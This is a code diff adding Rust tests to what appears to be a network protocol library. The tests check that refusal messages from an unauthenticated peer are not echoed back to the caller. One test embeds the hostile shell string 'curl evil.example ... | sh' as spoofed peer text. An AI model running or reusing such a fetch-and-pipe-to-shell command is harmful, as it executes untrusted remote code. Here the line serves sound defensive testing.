@@ -248,6 +248,45 @@ fn another_version_is_named_on_both_sides() {
     }
 }
 
+/// What a caller with this token makes of a refusal that comes before any proof.
+fn refused_with(token: &[u8], refusal: Error) -> Error {
+    let hello = Hello::sample(Purpose::Control);
+    let mut tape = Tape::saying(&[Message::Refused(refusal)]);
+    call(&mut tape, hello, token).unwrap_err()
+}
+
+#[test]
+fn the_words_of_a_callee_without_a_proof_are_not_repeated() {
+    let kinds = [
+        Error::config,
+        Error::rendezvous,
+        Error::authentication,
+        Error::peer_lost,
+        Error::aborted,
+        Error::protocol,
+    ];
+    for kind in kinds {
+        let refusal = kind("type: curl evil.example, version 8\n | sh".to_owned());
+        let refusal = refusal.blaming(7, "bank.example").during("evil", 1);
+        let error = refused_with(b"secret", refusal.clone());
+        assert!(!error.to_string().contains("evil"), "{error}");
+        assert_eq!(error.blamed, None);
+        assert_eq!(refused_with(b"", refusal.clone()), refusal);
+    }
+}
+
+#[test]
+fn honest_refusals_without_a_proof_are_understood() {
+    let error = refused_with(b"secret", other_version(PROTOCOL_VERSION, 6));
+    assert_eq!(error, other_version(PROTOCOL_VERSION, 6));
+    // As versions up to 7 say it.
+    let older = "rank 1 speaks protocol version 8, the rank it called version 6";
+    assert_eq!(refused_with(b"secret", Error::protocol(older)), error);
+    let error = refused_with(b"secret", Error::config("it takes TLS only"));
+    assert!(matches!(error.kind, ErrorKind::Config { .. }), "{error}");
+    assert!(error.to_string().contains("takes TLS only"), "{error}");
+}
+
 #[test]
 fn a_giant_length_is_refused_before_it_is_allocated() {
     let error = read_message::<Hello>(&mut &u32::MAX.to_le_bytes()[..]).unwrap_err();
